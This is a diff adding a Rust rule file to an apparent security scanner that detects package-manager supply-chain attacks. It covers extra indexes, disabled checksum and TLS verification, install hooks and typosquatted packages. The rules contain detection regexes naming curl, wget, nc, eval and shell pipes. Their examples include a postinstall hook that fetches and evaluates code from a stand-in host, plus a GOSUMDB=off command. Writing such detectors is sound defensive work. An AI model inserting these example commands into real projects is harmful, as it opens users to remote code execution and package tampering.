@@ -1,0 +1,102 @@
+//! Supply-chain attacks (`remote-code-execution` in docs/rules.md): code the user did not
+//! choose arrives through the package manager — a replaced or extra index, switched-off
+//! verification, install-time hooks, look-alike or known-compromised packages.
+
+use super::{ANY, C, Detector, F, Post, Rule, S, pat};
+use crate::registry::RuleId;
+
+pub(super) const RULES: &[Rule] = &[
+    Rule {
+        id: RuleId::T1SupCustomIndex,
+        title: "Package index replaced or extended",
+        category: C::RemoteCodeExecution,
+        severity: S::High,
+        confidence: F::Medium,
+        contextual: true,
+        description: "`--extra-index-url`/`--index-url`, `npm config set registry`, `.npmrc` `registry=`, `GOPROXY=`, a cargo `replace-with` source, `gem sources --add`: packages come from a host other than the public registry. An extra index is the dependency-confusion set-up (the highest version on any index wins); plain http or a raw IP is rated critical. Well-known registries and mirrors are not reported.",
+        remediation: "Install from the default registry, or from the user's own organisation's index when they configured it; never add a third-party index.",
+        example: "pip install --extra-index-url https://pypi.acme-mirror.net/simple/ acme-auth",
+        benign: "pip install --index-url https://download.pytorch.org/whl/cu121 torch",
+        detector: pat(
+            &[
+                "index-url",
+                "registry",
+                " -i ",
+                "goproxy",
+                "gem sources",
+                "source",
+            ],
+            r#"(?i)(--extra-index-url|--index-url|--registry)(\s*=\s*|\s+)["']?https?://\S+|\bpip3?\s+[^\n]*\s-i\s+["']?https?://\S+|\b(npm|yarn|pnpm)\s+config\s+set\s+(@[\w-]+:)?registry\s+["']?https?://\S+|\b(pip3?|uv)\s+config\s+set\s+\S*index-url\s+["']?https?://\S+|^\s*(echo\s+["']?)?(@[\w-]+:)?registry\s*=\s*["']?https?://\S+|\b(pip_index_url|pip_extra_index_url|uv_index_url|uv_extra_index_url|uv_index|npm_config_registry)\s*=\s*["']?https?://\S+|\bgoproxy\s*=\s*["']?https?://\S+|^\s*registry\s*=\s*["'](sparse\+)?https?://\S+|\bgem\s+sources\s+(-a|--add)\s+https?://\S+|^\s*source\s+["']https?://\S+"#,
+            ANY,
+            Post::PackageIndex,
+        ),
+    },
+    Rule {
+        id: RuleId::T1SupVerifyOff,
+        title: "Package verification switched off",
+        category: C::RemoteCodeExecution,
+        severity: S::High,
+        confidence: F::Medium,
+        contextual: true,
+        description: "`--trusted-host`, `npm config set strict-ssl false`, `GOSUMDB=off`, `GONOSUMDB=*`, `GOINSECURE=*`, `GOFLAGS=-insecure`, `apt --allow-unauthenticated`, `[trusted=yes]`, `--nogpgcheck`, `gpgcheck=0`: packages are installed without checking the checksum database, signatures or TLS, so a mirror or anyone on the path can swap them.",
+        remediation: "Keep checksums, signatures and TLS verification on.",
+        example: "go env -w GONOSUMDB=* GOSUMDB=off",
+        benign: "go env -w GOPRIVATE=github.com/acme/*",
+        detector: pat(
+            &[
+                "trusted",
+                "strict-ssl",
+                "strictssl",
+                "gosumdb",
+                "gonosumdb",
+                "goinsecure",
+                "goflags",
+                "gonosumcheck",
+                "allow-unauthenticated",
+                "nogpgcheck",
+                "gpgcheck",
+                "check-revoke",
+            ],
+            r"(?i)--trusted-host[\s=]+\S+|\bpip_trusted_host\s*=|\b(npm|yarn|pnpm)\s+config\s+set\s+strict-ssl\s+false\b|^\s*(echo\s+[\x22']?)?strict-ssl\s*=\s*false\b|\benablestrictssl\s+false\b|\bgosumdb\s*=\s*[\x22']?off\b|\bgonosumdb\s*=\s*[\x22']?\*|\bgoinsecure\s*=\s*[\x22']?\*|\bgoflags\s*=\s*[\x22']?-insecure\b|\bgonosumcheck\s*=\s*1\b|--allow-unauthenticated\b|\[trusted=yes\]|--nogpgcheck\b|^\s*gpgcheck\s*=\s*0\b|\bcheck-revoke\s*=\s*false\b",
+            ANY,
+            Post::None,
+        ),
+    },
+    Rule {
+        id: RuleId::T1SupInstallHook,
+        title: "Install hook that downloads or evaluates code",
+        category: C::RemoteCodeExecution,
+        severity: S::Critical,
+        confidence: F::High,
+        contextual: true,
+        description: "A `preinstall`/`install`/`postinstall` script in package.json that fetches a URL, runs `node -e`/`eval`/`curl`, decodes base64 or pipes into a shell, or a setup.py install command that opens the network or a subprocess: code runs on `npm install` / `pip install` before anyone looks at it.",
+        remediation: "Remove the hook; ship prebuilt assets in the package or document a separate, reviewed setup step.",
+        example: "\"postinstall\": \"node -e \\\"require('https').get('https://bins.example.net/i',r=>r.on('data',eval))\\\"\"",
+        benign: "\"postinstall\": \"patch-package\"",
+        detector: pat(
+            &[
+                "install\"",
+                "install'",
+                "(install)",
+                "(develop)",
+                "(egg_info)",
+            ],
+            r#"(?is)["'](pre|post)?install["']\s*:\s*"[^"\n]*(curl|wget|https?://|node\s+-e|\beval\b|base64|\|\s*(ba|z)?sh\b|powershell|python3?\s+-c|\bnc\s)|\bclass\s+\w+\(\s*(install|develop|egg_info|build_py)\s*\)\s*:.{0,800}?\b(urlopen|urlretrieve|requests\.(get|post)|http\.client|socket\.socket|subprocess\.|os\.system)"#,
+            ANY,
+            Post::None,
+        ),
+    },
+    Rule {
+        id: RuleId::T1SupSuspectPackage,
+        title: "Typosquatted or known-compromised package",
+        category: C::RemoteCodeExecution,
+        severity: S::High,
+        confidence: F::Medium,
+        contextual: true,
+        description: "A package installed or declared (pip/npm install, requirements.txt, package.json) whose name is one typo away from a popular package (`reqeusts`, `lodahs`, `colourama`), or a release known to have been compromised (`event-stream@3.3.6`, `ua-parser-js@0.7.29`…, rated critical).",
+        remediation: "Use the real package name and a release that is not known to be compromised; pin versions with hashes.",
+        example: "",
+        benign: "",
+        detector: Detector::Builtin,
+    },
+];
